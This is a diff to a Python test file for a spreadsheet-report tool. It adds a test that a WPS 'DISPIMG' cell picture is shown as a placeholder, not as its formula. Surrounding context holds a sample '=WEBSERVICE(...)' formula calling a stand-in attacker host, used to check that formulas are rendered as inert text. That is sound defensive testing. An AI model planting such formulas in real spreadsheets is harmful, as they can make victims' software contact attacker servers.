@@ -17,6 +17,7 @@ from toolkit.core.model import Finding, Provenance, Submission, parse_a1
 from toolkit.core.profile import load_profile
 from toolkit.files.office_summary import write_office_summary
 from toolkit.files.report import (
+    CELL_PICTURE,
     ISSUES_SHEET,
     SEVERITY_FILLS,
     SEVERITY_ZH,
@@ -144,6 +145,16 @@ def test_formulas_in_the_branch_file_come_back_as_text(tmp_path: Path):
     ws = openpyxl.load_workbook(out)[FORM_SHEET]
     assert (ws["A1"].data_type, ws["A1"].value) == ("s", "=1+1")
     assert roundtrip_values(out)[FORM_SHEET][0] == ["=1+1", '=WEBSERVICE("http://evil.example")']
+
+
+def test_a_wps_cell_picture_is_said_not_shown_as_its_formula(tmp_path: Path):
+    src = tmp_path / "f.xlsx"
+    wb = openpyxl.Workbook()
+    wb.active.title = FORM_SHEET
+    wb.active["D4"] = '=_xlfn.DISPIMG("ID_AF3C0E1B",1)'
+    wb.save(src)
+    out = write_branch_report(_submission(src, "xlsx"), [], tmp_path)
+    assert openpyxl.load_workbook(out)[FORM_SHEET]["D4"].value == CELL_PICTURE
 
 
 def test_rich_text_in_the_branch_file_stays_rich(tmp_path: Path):
